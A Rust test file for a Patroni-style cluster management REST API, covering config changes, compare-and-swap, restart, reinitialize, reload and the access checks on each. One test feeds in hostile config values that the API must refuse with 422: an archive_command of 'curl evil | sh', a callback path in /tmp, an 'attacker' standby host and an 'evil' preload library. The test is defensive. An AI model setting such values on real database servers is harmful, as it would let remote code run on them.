//! `PATCH`/`PUT /config`, `POST /restart`, `DELETE /restart`, `POST /reinitialize` and
//! `POST /reload` against a fake control handle that records every write and request: the
//! access check, the parameter policy's refusals (422 naming each key, nothing written),
//! compare-and-swap answers, `If-Match`, Patroni's texts and status codes.

use std::collections::BTreeMap;
use std::sync::Mutex;

use api::control::BoxFuture;
use api::{Control, ControlError, LocalRequest, PendingChange, RequestOutcome};
use pgkeep::dcs::{Cas, Expect};
use reqwest::Method;
use serde_json::{Map, json};

use super::*;

/// The revision the fake reports for a config write.
const WRITTEN: i64 = 11;

/// Records config writes and local requests.
struct FakeControl {
    configs: Mutex<Vec<(Map<String, Value>, Expect)>>,
    config_answer: Mutex<Result<Cas, ControlError>>,
    requests: Mutex<Vec<LocalRequest>>,
    outcome: Mutex<RequestOutcome>,
    pending: Mutex<Option<BTreeMap<String, PendingChange>>>,
}

impl FakeControl {
    fn new() -> Arc<FakeControl> {
        Arc::new(FakeControl {
            configs: Mutex::new(Vec::new()),
            config_answer: Mutex::new(Ok(Cas::Written { revision: WRITTEN })),
            requests: Mutex::new(Vec::new()),
            outcome: Mutex::new(RequestOutcome::Done),
            pending: Mutex::new(None),
        })
    }

    fn configs(&self) -> Vec<(Map<String, Value>, Expect)> {
        self.configs.lock().unwrap().clone()
    }

    fn requests(&self) -> Vec<LocalRequest> {
        self.requests.lock().unwrap().clone()
    }
}

impl Control for FakeControl {
    fn put_failover<'a>(
        &'a self,
        _request: &'a pgkeep_core::cluster::FailoverRequest,
        _expect: Expect,
    ) -> BoxFuture<'a, Result<Cas, ControlError>> {
        Box::pin(async { Err(ControlError("not in this test".into())) })
    }

    fn put_config<'a>(
        &'a self,
        config: &'a Map<String, Value>,
        expect: Expect,
    ) -> BoxFuture<'a, Result<Cas, ControlError>> {
        self.configs.lock().unwrap().push((config.clone(), expect));
        let answer = self.config_answer.lock().unwrap().clone();
        Box::pin(async move { answer })
    }

    fn request(
        &self,
        request: LocalRequest,
    ) -> BoxFuture<'_, Result<RequestOutcome, ControlError>> {
        self.requests.lock().unwrap().push(request);
        let outcome = self.outcome.lock().unwrap().clone();
        Box::pin(async move { Ok(outcome) })
    }

    fn pending_restart(&self) -> BoxFuture<'_, Option<BTreeMap<String, PendingChange>>> {
        let p = self.pending.lock().unwrap().clone();
        Box::pin(async move { p })
    }
}

async fn start(control: &Arc<FakeControl>, snapshot: ApiSnapshot) -> (Pki, Running, ApiClient) {
    let pki = Pki::new();
    let c: Arc<dyn Control> = control.clone();
    let srv = Running::start_with(&pki.with_basic_auth(), snapshot, Some(c)).await;
    let admin = pki.basic_client("correct horse");
    (pki, srv, admin)
}

async fn send(
    client: &ApiClient,
    method: Method,
    url: &str,
    body: &str,
    if_match: Option<i64>,
) -> api::ApiResponse {
    client.send_json(method, url, body, if_match).await.unwrap()
}

fn etag(r: &api::ApiResponse) -> String {
    r.headers
        .get("etag")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default()
}

#[tokio::test]
async fn patch_config_merges_checks_and_writes_with_cas() {
    let control = FakeControl::new();
    let (_pki, srv, admin) = start(&control, leader_snapshot()).await;
    let url = srv.url("/config");

    let r = admin.get(&url).await.unwrap();
    assert_eq!((r.status, etag(&r)), (200, "\"3\"".to_owned()));

    let r = send(
        &admin,
        Method::PATCH,
        &url,
        r#"{"loop_wait": 5, "maximum_lag_on_failover": null, "pause": true,
            "postgresql": {"parameters": {"max_connections": 150}}}"#,
        None,
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(etag(&r), format!("\"{WRITTEN}\""));
    let want = json!({"ttl": 30, "loop_wait": 5, "pause": true,
        "postgresql": {"parameters": {"max_connections": 150}}});
    assert_eq!(r.json::<Value>().unwrap(), want);
    let writes = control.configs();
    assert_eq!(writes.len(), 1);
    assert_eq!(Value::Object(writes[0].0.clone()), want);
    assert_eq!(
        writes[0].1,
        Expect::ModRevision(3),
        "CAS on the revision merged into"
    );

    // A patch that changes nothing writes nothing.
    let r = send(&admin, Method::PATCH, &url, r#"{"ttl": 30}"#, None).await;
    assert_eq!(r.status, 200);
    assert_eq!(control.configs().len(), 1);
    srv.shutdown().await;
}

#[tokio::test]
async fn config_changes_the_agents_would_drop_are_refused_with_422() {
    let control = FakeControl::new();
    let (_pki, srv, admin) = start(&control, leader_snapshot()).await;
    let url = srv.url("/config");
    for (method, body, key, security) in [
        (
            Method::PATCH,
            r#"{"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}"#,
            "postgresql.parameters.archive_command",
            true,
        ),
        (
            Method::PATCH,
            r#"{"postgresql": {"callbacks": {"on_start": "/tmp/x"}}}"#,
            "postgresql.callbacks",
            true,
        ),
        (
            Method::PATCH,
            r#"{"standby_cluster": {"host": "attacker"}}"#,
            "standby_cluster",
            true,
        ),
        (
            Method::PATCH,
            r#"{"no_such_setting": 1}"#,
            "no_such_setting",
            false,
        ),
        (Method::PATCH, r#"{"loop_wait": 40}"#, "loop_wait", false),
        (
            Method::PUT,
            r#"{"ttl": 30, "postgresql": {"parameters": {"shared_preload_libraries": "evil"}}}"#,
            "postgresql.parameters.shared_preload_libraries",
            true,
        ),
    ] {
        let r = send(&admin, method.clone(), &url, body, None).await;
        assert_eq!(r.status, 422, "{method} {body}: {}", r.text());
        let v: Value = r.json().unwrap();
        assert!(
            v["error"].as_str().unwrap().contains(key),
            "{method} {body}: {v}"
        );
        assert_eq!(v["refused"][0]["key"], key, "{v}");
        assert_eq!(v["refused"][0]["security"], security, "{v}");
    }
    assert!(control.configs().is_empty(), "nothing was written");
    // Bodies that are not configurations.
    for body in ["[1]", "{nope"] {
        let r = send(&admin, Method::PATCH, &url, body, None).await;
        assert_eq!(r.status, 400, "{body}");
    }
    srv.shutdown().await;
}

#[tokio::test]
async fn put_config_replaces_and_if_match_pins_the_revision() {
    let control = FakeControl::new();
    let (_pki, srv, admin) = start(&control, leader_snapshot()).await;
    let url = srv.url("/config");
    let same = r#"{"ttl":30,"loop_wait":10,"maximum_lag_on_failover":1048576}"#;
    let r = send(&admin, Method::PUT, &url, same, None).await;
    assert_eq!(r.status, 200, "identical: nothing to write");
    assert!(control.configs().is_empty());

    let r = send(
        &admin,
        Method::PUT,
        &url,
        r#"{"ttl": 30, "loop_wait": 2}"#,
        Some(2),
    )
    .await;
    assert_eq!(r.status, 409, "{}", r.text());
    assert!(
        control.configs().is_empty(),
        "a stale If-Match writes nothing"
    );

    let r = send(
        &admin,
        Method::PUT,
        &url,
        r#"{"ttl": 30, "loop_wait": 2}"#,
        Some(3),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    let writes = control.configs();
    assert_eq!(
        Value::Object(writes[0].0.clone()),
        json!({"ttl": 30, "loop_wait": 2})
    );
    assert_eq!(writes[0].1, Expect::ModRevision(3));

    *control.config_answer.lock().unwrap() = Ok(Cas::Conflict);
    let r = send(&admin, Method::PATCH, &url, r#"{"loop_wait": 3}"#, None).await;
    assert_eq!(r.status, 409);
    *control.config_answer.lock().unwrap() = Err(ControlError("etcd down".into()));
    let r = send(&admin, Method::PATCH, &url, r#"{"loop_wait": 3}"#, None).await;
    assert_eq!(r.status, 503);
    let r = send(&admin, Method::PUT, &url, r#"{"loop_wait": 3}"#, None).await;
    assert_eq!(r.status, 502);
    let r = send(&admin, Method::PUT, &url, "{}", Some(-5)).await;
    assert_eq!(r.status, 409);
    srv.shutdown().await;
}

#[tokio::test]
async fn restart_filters_and_answers() {
    let control = FakeControl::new();
    let (_pki, srv, admin) = start(&control, leader_snapshot()).await;
    let url = srv.url("/restart");
    let post = |body: &'static str| {
        let admin = admin.clone();
        let url = url.clone();
        async move {
            let r = admin.post_json(&url, body).await.unwrap();
            (r.status, r.text())
        }
    };
    assert_eq!(post("").await, (200, "restarted successfully".into()));
    assert_eq!(control.requests(), [LocalRequest::Restart]);

    let (code, text) = post(r#"{"schedule": "2030-01-01T00:00:00Z"}"#).await;
    assert_eq!(code, 400);
    assert!(
        text.contains("schedule") && text.contains("not supported"),
        "{text}"
    );
    let (code, text) = post(r#"{"whenever": 1}"#).await;
    assert_eq!(code, 400);
    assert!(text.contains("whenever"), "{text}");
    for body in [
        r#"{"role": "replica"}"#,
        r#"{"restart_pending": true}"#,
        r#"{"postgres_version": "15.0"}"#,
    ] {
        let (code, text) = post(body).await;
        assert_eq!(code, 503, "{body}");
        assert!(
            text.starts_with("restart conditions are not satisfied"),
            "{text}"
        );
    }
    assert_eq!(
        control.requests().len(),
        1,
        "refused requests reach no agent"
    );
    // Pending restart (as PostgreSQL reports it) and matching filters.
    *control.pending.lock().unwrap() = Some(BTreeMap::from([(
        "max_connections".to_owned(),
        PendingChange {
            old_value: "100".into(),
            new_value: "150".into(),
        },
    )]));
    let (code, _) = post(
        r#"{"restart_pending": true, "role": "master", "postgres_version": "16.1", "timeout": 5}"#,
    )
    .await;
    assert_eq!(code, 200);
    *control.outcome.lock().unwrap() = RequestOutcome::Failed("PostgreSQL did not start".into());
    assert_eq!(
        post("{}").await,
        (503, "restart failed: PostgreSQL did not start".into())
    );
    *control.outcome.lock().unwrap() =
        RequestOutcome::Refused("restart already in progress".into());
    assert_eq!(
        post("{}").await,
        (503, "restart already in progress".into())
    );

    let r = admin.delete(&url).await.unwrap();
    assert_eq!(
        (r.status, r.text()),
        (404, "no restarts are scheduled".into())
    );
    srv.shutdown().await;

    // A stopped server is not restarted.
    let mut stopped = leader_snapshot();
    stopped.status.state = "stopped".into();
    let (_pki, srv, admin) = start(&control, stopped).await;
    let r = admin.post_json(&srv.url("/restart"), "{}").await.unwrap();
    assert_eq!(r.status, 503);
    srv.shutdown().await;
}

#[tokio::test]
async fn reinitialize_only_on_a_replica_with_a_leader() {
    let control = FakeControl::new();
    let (_pki, srv, admin) = start(&control, leader_snapshot()).await;
    let r = admin
        .post_json(&srv.url("/reinitialize"), "{}")
        .await
        .unwrap();
    assert_eq!(
        (r.status, r.text()),
        (503, "I am the leader, can not reinitialize".into())
    );
    srv.shutdown().await;

    *control.outcome.lock().unwrap() = RequestOutcome::Accepted;
    let (_pki, srv, admin) = start(&control, replica_snapshot(0)).await;
    let url = srv.url("/reinitialize");
    let r = admin
        .post_json(&url, r#"{"force": true, "from_leader": true}"#)
        .await
        .unwrap();
    assert_eq!((r.status, r.text()), (200, "reinitialize started".into()));
    assert_eq!(
        control.requests(),
        [LocalRequest::Reinitialize {
            force: true,
            from_leader: true
        }]
    );
    let r = admin.post_json(&url, r#"{"force": "yes"}"#).await.unwrap();
    assert_eq!(r.status, 400);
    let mut leaderless = replica_snapshot(0);
    let mut view = ClusterView::clone(leaderless.cluster.as_ref().unwrap());
    view.leader = None;
    leaderless.cluster = Some(Arc::new(view));
    srv.set(leaderless);
    let r = admin.post_json(&url, "").await.unwrap();
    assert_eq!(
        (r.status, r.text()),
        (503, "Cluster has no leader, can not reinitialize".into())
    );
    srv.shutdown().await;
}

#[tokio::test]
async fn reload_is_scheduled_and_pending_reasons_are_reported() {
    let control = FakeControl::new();
    let mut snap = leader_snapshot();
    snap.status.pending_restart = true;
    *control.pending.lock().unwrap() = Some(BTreeMap::from([(
        "max_connections".to_owned(),
        PendingChange {
            old_value: "100".into(),
            new_value: "150".into(),
        },
    )]));
    let (pki, srv, admin) = start(&control, snap).await;
    let r = admin.post_json(&srv.url("/reload"), "").await.unwrap();
    assert_eq!((r.status, r.text()), (202, "reload scheduled".into()));
    assert_eq!(control.requests(), [LocalRequest::Reload]);

    let st: Value = admin
        .get(&srv.url("/patroni"))
        .await
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(st["pending_restart"], true);
    assert_eq!(
        st["pending_restart_reason"],
        json!({"max_connections": {"old_value": "100", "new_value": "150"}})
    );

    // Every one of these endpoints sits behind the access check.
    let anonymous = pki.client_for(None);
    for (method, path) in [
        (Method::PATCH, "/config"),
        (Method::PUT, "/config"),
        (Method::POST, "/restart"),
        (Method::DELETE, "/restart"),
        (Method::POST, "/reinitialize"),
        (Method::POST, "/reload"),
    ] {
        let r = anonymous
            .send_json(method.clone(), &srv.url(path), "{}", None)
            .await
            .unwrap();
        assert_eq!(r.status, 401, "{method} {path}");
    }
    assert_eq!(control.requests().len(), 1);
    assert!(control.configs().is_empty());
    let r = admin.get(&srv.url("/reload")).await.unwrap();
    assert_eq!(r.status, 405);
    srv.shutdown().await;

    // Without a control handle nothing changes.
    let srv = Running::start(&pki.with_basic_auth(), leader_snapshot()).await;
    for (method, path) in [
        (Method::PATCH, "/config"),
        (Method::POST, "/restart"),
        (Method::POST, "/reload"),
    ] {
        let r = send(&admin, method.clone(), &srv.url(path), "{}", None).await;
        assert_eq!(r.status, 503, "{method} {path}");
    }
    srv.shutdown().await;
}
